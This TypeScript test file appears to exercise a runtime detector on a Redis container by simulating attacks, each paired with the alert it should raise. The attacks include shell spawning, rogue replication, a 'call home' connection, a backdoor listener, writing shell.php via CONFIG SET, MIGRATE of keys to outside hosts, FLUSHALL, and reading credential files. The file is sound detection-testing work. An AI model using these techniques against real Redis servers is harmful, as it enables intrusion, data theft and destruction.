import { appendFileSync, chmodSync, copyFileSync } from 'node:fs';
import type { Box } from '../support/box.ts';
import { hijack } from '../support/hijack.ts';
import type { Attack } from '../support/service.ts';

const by = /^\/usr\/bin\/redis-check-rdb$|^\/usr\/bin\/redis-server$/;
const ask = (box: Box, ...words: readonly string[]): Promise<string> => box.host(['node', 'ask.mjs', ...words]);
const inside = (box: Box, ...given: readonly string[]): Promise<void> => hijack(box, box.pid, ...given);
const library = '/usr/lib/x86_64-linux-gnu/libz.so.1';

/** Something of the image's own, changed: as replication or SAVE would leave it. */
function dropped(box: Box, from: string, to: string): void {
  copyFileSync(box.path(from), box.path(to));
  appendFileSync(box.path(to), 'x');
  chmodSync(box.path(to), 0o755);
}

export const attacks: readonly Attack[] = [
  {
    name: 'it starts a shell',
    kind: 'loud',
    act: (box) => inside(box, 'exec', '/bin/sh', '-c', 'id; exit'),
    told: /^process-not-in-profile \/usr\/bin\/dash/,
    by,
  },
  {
    name: 'a module is dropped and loaded',
    kind: 'loud',
    act: async (box) => {
      dropped(box, library, '/var/lib/redis/exp.so');
      await ask(box, 'MODULE', 'LOAD', '/var/lib/redis/exp.so');
    },
    told: /^file-executed \/var\/lib\/redis\/exp\.so/,
    by,
  },
  {
    name: 'a binary is dropped and run',
    kind: 'loud',
    act: async (box) => {
      dropped(box, '/bin/true', '/var/lib/redis/kdevtmpfsi');
      await inside(box, 'exec', '/var/lib/redis/kdevtmpfsi');
    },
    told: /^process-not-in-profile \/var\/lib\/redis\/kdevtmpfsi/,
    by,
  },
  {
    name: 'it follows another master',
    kind: 'loud',
    act: async (box) => {
      await ask(box, 'REPLICAOF', '198.51.100.7', '6379');
      await new Promise((done) => setTimeout(done, 1500));
      await ask(box, 'REPLICAOF', 'NO', 'ONE');
    },
    told: /^connection-\S+ tcp 198\.51\.100\.7:6379/,
    by,
  },
  {
    name: 'it calls home',
    kind: 'loud',
    act: (box) => inside(box, 'connect', '203.0.113.66', '3333'),
    told: /^connection-\S+ tcp 203\.0\.113\.66:3333/,
    by,
  },
  {
    name: 'a back door listens',
    kind: 'loud',
    act: (box) => inside(box, 'bind', '31337'),
    told: /^listen-not-in-profile tcp port 31337/,
    by,
  },
  {
    name: 'the accounts are read',
    kind: 'loud',
    act: (box) => inside(box, 'read', '/etc/passwd'),
    told: /^file-not-in-profile \/etc\/passwd/,
    by,
  },
  {
    name: 'a database is saved as a file elsewhere',
    kind: 'quiet',
    act: async (box) => {
      await ask(box, 'CONFIG', 'SET', 'dir', '/tmp');
      await ask(box, 'CONFIG', 'SET', 'dbfilename', 'root');
      await ask(box, 'SAVE');
      await ask(box, 'CONFIG', 'SET', 'dir', '/var/lib/redis');
    },
    told: /^file-not-in-profile \/tmp\//,
    by,
  },
  {
    name: 'a database is saved as a script in its own directory',
    kind: 'quiet',
    act: async (box) => {
      await ask(box, 'CONFIG', 'SET', 'dbfilename', 'shell.php');
      await ask(box, 'SAVE');
      await ask(box, 'CONFIG', 'SET', 'dbfilename', 'dump.rdb');
    },
    told: /^\S+ \S*shell\.php/,
    by,
    missed: 'it writes its data there, under any name; running it would be told',
  },
  {
    name: 'one of the image’s own libraries is loaded',
    kind: 'quiet',
    act: (box) => inside(box, 'map', '/usr/lib/x86_64-linux-gnu/libuv.so.1.0.0'),
    told: /^file-not-in-profile \/usr\/lib\/x86_64-linux-gnu\/libuv\.so/,
    by,
  },
  {
    name: 'keys are migrated to another host',
    kind: 'quiet',
    act: async (box) => {
      await ask(box, 'SET', 'loot', 'x');
      await ask(box, 'MIGRATE', '198.51.100.10', '6379', 'loot', '0', '100');
    },
    told: /^connection-\S+ tcp 198\.51\.100\.10:6379/,
    by,
  },
  {
    name: 'all keys are read by a client',
    kind: 'quiet',
    act: (box) => ask(box, 'KEYS', '*'),
    told: /^\S+ \S*KEYS/,
    by,
    missed: 'who connects, and what is asked, is not judged',
  },
  {
    name: 'everything is deleted',
    kind: 'quiet',
    act: (box) => ask(box, 'FLUSHALL'),
    told: /^\S+ \S*FLUSHALL/,
    by,
    missed: 'what a command does to the data is not seen from outside',
  },
  {
    name: 'its key is read again',
    kind: 'quiet',
    act: (box) => inside(box, 'read', '/etc/redis/tls/tls.key'),
    told: /^\S+ \S*tls\.key/,
    by,
    missed: 'the service reads its key itself',
  },
];
